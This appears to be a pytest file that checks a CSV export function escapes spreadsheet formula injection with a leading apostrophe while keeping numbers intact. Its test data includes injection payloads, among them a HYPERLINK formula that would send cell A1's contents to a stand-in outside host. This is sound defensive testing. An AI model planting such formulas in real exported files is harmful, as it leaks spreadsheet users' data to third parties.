"""CSV files whose texts no spreadsheet takes for formulas, and whose numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re

import pytest

from comfyui_aot.aot.tables import as_csv

FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"more")',
    "+1-555-0100",
    "-2+3",
    "- a cat",
    "@SUM(A1:A9)",
    "\tcmd",
    "\n=1",
    "\u2028=1",
    "\uff1d1+1",
    "=",
    "-",
)


def cells(text):
    """The lines of a CSV file, in the order of their columns."""
    return list(csv.reader(io.StringIO(text, newline="")))


def undone(cell):
    """What a reader gets back who takes off the apostrophe that was put before a formula."""
    return cell[1:] if re.match("'+[=+@\t\n\uff1d-]", cell) else cell


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_compute_begins_with_an_apostrophe(text):
    (head,), (cell,) = cells(as_csv([{"answer": text}]))
    assert cell == "'" + text.replace("\u2028", "\n")
    assert head == "answer"
    (name,), _ = cells(as_csv([{text: 1}]))
    assert name == cell


def test_a_carriage_return_is_not_written_and_hides_no_formula():
    assert cells(as_csv([{"answer": "\r=1"}]))[1] == ["'=1"]


def test_numbers_stay_numbers():
    assert cells(as_csv([{"a": -5, "b": -0.25, "c": 1e-7, "d": float("-inf"), "e": True, "f": None}]))[1] == [
        "-5", "-0.25", "1e-07", "-inf", "True", "",
    ]  # fmt: skip


@pytest.mark.parametrize("text", ["a - b", "'tis", "1-2", "", "x=1", '"=1"'])
def test_other_texts_are_as_they_were(text):
    assert cells(as_csv([{"answer": text, "n": 1}]))[1] == [text, "1"]


def test_the_apostrophe_can_be_told_from_the_texts_own():
    texts = [*(text for text in FORMULAS if "\u2028" not in text), "'=1", "''-1", "'tis", "'", "1"]
    _, *lines = cells(as_csv([{"answer": text, "n": 1} for text in texts]))
    assert [undone(cell) for cell, _ in lines] == texts


def test_columns_that_a_line_lacks_are_empty():
    assert as_csv([{"a": 1, "b": "x"}, {"c": 2.5, "a": -3}]) == "a,b,c\n1,x,\n-3,,2.5\n"
